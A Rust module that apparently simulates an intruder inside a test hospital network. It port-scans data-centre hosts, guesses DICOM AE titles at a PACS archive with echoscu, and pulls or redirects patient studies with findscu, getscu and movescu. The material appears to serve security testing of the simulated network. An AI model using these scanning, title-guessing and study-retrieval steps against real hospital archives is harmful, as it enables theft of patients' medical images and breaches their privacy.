//! What an intruder does, with real programs, from any host.

use std::{
    fs,
    io::ErrorKind,
    net::{IpAddr, SocketAddr, TcpStream},
    path::Path,
    time::Duration,
};

use anyhow::Result;

use crate::{
    dicom::{PACS, PACS_PORT},
    hospital::{Hospital, Role},
};

/// How long a port may take to answer.
const PATIENCE: Duration = Duration::from_millis(150);
/// Ports that a scan tries on each host of the data centre.
const PORTS: std::ops::Range<u16> = 1..25;
/// Called AE titles that are tried.
const TITLES: [&str; 8] = [
    "ARCHIVE", "DCM4CHEE", "ORTHANC", "CONQUEST", "STORESCP", "MIRTH", "DICOM", "ANY-SCP",
];
/// DCMTK's programs shall not wait longer for an answer, seconds.
const TIMEOUTS: [&str; 6] = ["-to", "1", "-ta", "2", "-td", "2"];

/// An intruder on a host.
#[derive(Clone, Copy, Debug)]
pub struct Intruder<'a> {
    /// The hospital that it is in.
    pub hospital: &'a Hospital,
    /// The host that it works from.
    pub role: Role,
}

/// What a scan found.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Scanned {
    /// Ports that answered, open or closed.
    pub answered: u32,
    /// Ports that said nothing.
    pub silent: u32,
}

/// What guessing found.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Guessed {
    /// Titles that the archive answered, with yes or no.
    pub answered: u32,
    /// Titles that it did not.
    pub silent: u32,
}

impl Intruder<'_> {
    /// Tries ports of the hosts in the data centre.
    ///
    /// # Errors
    /// When the host's namespace can't be entered.
    pub fn scan(&self) -> Result<Scanned> {
        self.hospital.host(self.role).within(|| {
            let mut found = Scanned::default();
            for host in Role::CORE {
                for port in PORTS {
                    let to = SocketAddr::new(IpAddr::V4(host.address()), port);
                    match TcpStream::connect_timeout(&to, PATIENCE) {
                        Ok(_) => found.answered += 1,
                        Err(error) if error.kind() == ErrorKind::ConnectionRefused => {
                            found.answered += 1;
                        }
                        Err(_) => {
                            found.silent += 1;
                            // Who gets no answer twice knows enough of the host.
                            if found.silent.is_multiple_of(4) {
                                break;
                            }
                        }
                    }
                }
            }
            Ok(found)
        })
    }

    /// Tries AE titles at the archive.
    ///
    /// # Errors
    /// When `echoscu` can't be started.
    pub fn guess(&self) -> Result<Guessed> {
        let mut found = Guessed::default();
        for title in TITLES {
            let output = self
                .hospital
                .host(self.role)
                .command("echoscu")
                .args(TIMEOUTS)
                .args(["-v", "--aetitle", "WS_GUEST", "--call", title])
                .args([Role::Pacs.address().to_string(), PACS_PORT.to_string()])
                .output()?;
            let said = String::from_utf8_lossy(&output.stderr);
            let said = format!("{said}{}", String::from_utf8_lossy(&output.stdout));
            if output.status.success() || said.contains("Association Rejected") {
                found.answered += 1;
            } else {
                found.silent += 1;
                if found.silent == 2 {
                    break;
                }
            }
        }
        Ok(found)
    }

    /// Looks for studies (C-FIND) and pulls one (C-GET) into `folder`; how many images came.
    ///
    /// # Errors
    /// When a program can't be started.
    pub fn pull(&self, study: u32, folder: &Path) -> Result<usize> {
        fs::create_dir_all(folder)?;
        let command = |program: &str| {
            let mut command = self.hospital.host(self.role).command(program);
            command
                .args(TIMEOUTS)
                .args(["--aetitle", "WS_GUEST", "--call", PACS, "--study"]);
            command
        };
        let pacs = [Role::Pacs.address().to_string(), PACS_PORT.to_string()];
        command("findscu")
            .args([
                "--key",
                "QueryRetrieveLevel=STUDY",
                "--key",
                "StudyInstanceUID",
            ])
            .args(&pacs)
            .output()?;
        command("getscu")
            .args(["--key", "QueryRetrieveLevel=STUDY", "--key"])
            .arg(format!("StudyInstanceUID=2.25.{study}"))
            .arg("--output-directory")
            .arg(folder)
            .args(&pacs)
            .output()?;
        Ok(fs::read_dir(folder)?.count())
    }

    /// Has a study sent to the workstation (C-MOVE); true if the archive did.
    ///
    /// # Errors
    /// When `movescu` can't be started.
    pub fn divert(&self, study: u32) -> Result<bool> {
        let output = self
            .hospital
            .host(self.role)
            .command("movescu")
            .args(TIMEOUTS)
            .args(["--aetitle", "WS_GUEST", "--call", PACS, "--study"])
            .args(["--move", crate::dicom::WORKSTATION])
            .args(["--key", "QueryRetrieveLevel=STUDY", "--key"])
            .arg(format!("StudyInstanceUID=2.25.{study}"))
            .args([Role::Pacs.address().to_string(), PACS_PORT.to_string()])
            .output()?;
        Ok(output.status.success())
    }
}
